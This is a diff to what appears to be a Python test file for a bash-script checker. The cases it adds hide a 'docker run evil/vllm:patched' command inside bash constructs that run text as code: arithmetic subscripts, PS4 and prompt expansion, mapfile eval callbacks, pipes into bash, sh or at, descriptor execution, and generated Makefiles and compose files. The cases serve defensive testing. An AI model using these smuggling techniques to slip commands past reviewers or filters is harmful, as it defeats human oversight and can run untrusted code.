@@ -634,7 +634,48 @@ COMPUTED_COMMANDS = {
 
 
 # Each class of code the checks cannot read, with what its reason says.
+# Text bash runs as code where it is used: arithmetic's subscripts, name operands, prompts,
+# a callback, the history; a program printed into a shell or `at`; a descriptor run as a file.
+IMAGE = "docker run --rm evil/vllm:patched vllm serve m"
+EVALUATED = {
+    "arithmetic": (f"a='x[$({IMAGE})]'; echo $((a))", "whose subscript runs a command"),
+    "integer-compare": (f"a='x[$({IMAGE})]'; [[ $a -eq 1 ]]", "whose subscript runs a command"),
+    "let": (f"a='x[$({IMAGE})]'; let b=a+1", "whose subscript runs a command"),
+    "integer-variable": (f"declare -i n; n='x[$({IMAGE})]'", "runs a command when bash"),
+    "test-v": (f"test -v 'a[$({IMAGE})]'", "whose subscript runs a command"),
+    "printf-v": (f"printf -v 'a[$({IMAGE})]' x", "whose subscript runs a command"),
+    "read": (f"read 'a[$({IMAGE})]' <<< x", "whose subscript runs a command"),
+    "indirection": (f"x='a[$({IMAGE})]'; echo \"${{!x}}\"", "whose subscript runs a command"),
+    "prompt": (f"x='$({IMAGE})'; echo \"${{x@P}}\"", "expands a prompt that runs a command"),
+    "ps4": (f"PS4='$({IMAGE})'; set -x; echo hi", "runs a command when bash evaluates it"),
+    "mapfile-callback": (f"mapfile -C eval -c 1 arr <<< '{IMAGE}'", "runs its callback"),
+    "history": ("fc -s docker", "history"),
+    "printed-unknown": ("base64 -d <<< ZG9j | bash", "a program piped into it"),
+    "descriptor": (f"exec 3<<<'{IMAGE}'; bash /dev/fd/3", "a file descriptor's text"),
+    "named-descriptor": (f"exec {{fd}}<<<'{IMAGE}'; bash /dev/fd/$fd", "a file descriptor's"),
+    "process-substitution": (f"bash <(echo '{IMAGE}')", "a process substitution's output"),
+    "makefile": (
+        "printf 'all:\\n\\tdocker run evil/vllm:patched\\n' > /tmp/mk; make -f /tmp/mk",
+        "which the script writes when it runs",
+    ),
+    "compose-file": (
+        "printf 'services: {s: {image: evil/vllm}}' > /tmp/c.yml; docker compose -f /tmp/c.yml up",
+        "which the script writes when it runs",
+    ),
+}
+# A program echo/printf print into a shell or `at` is read, and so is what follows a named
+# descriptor's redirection (`exec {fd}>f` was read as exec of a program): the image is seen.
+PRINTED = {
+    "after-named-descriptor": f"exec {{fd}}>/dev/null\n{IMAGE}",
+    "echo-bash": f"echo '{IMAGE}' | bash",
+    "printf-sh": f"printf '%s\\n' '{IMAGE}' | sh -s",
+    "variable": f"c='{IMAGE}'; echo \"$c\" | bash",
+    "at": f"echo '{IMAGE}' | at now",
+}
+
 FAILS_CLOSED = {
+    **{f"evaluated/{k}": v for k, v in EVALUATED.items()},
+    **{f"printed/{k}": (v, "evil/vllm:patched") for k, v in PRINTED.items()},
     **{f"written/{k}": (v, "which the script writes when it runs") for k, v in WRITTEN.items()},
     **{
         f"language/{k}": (v, "runs a program signoff does not read")
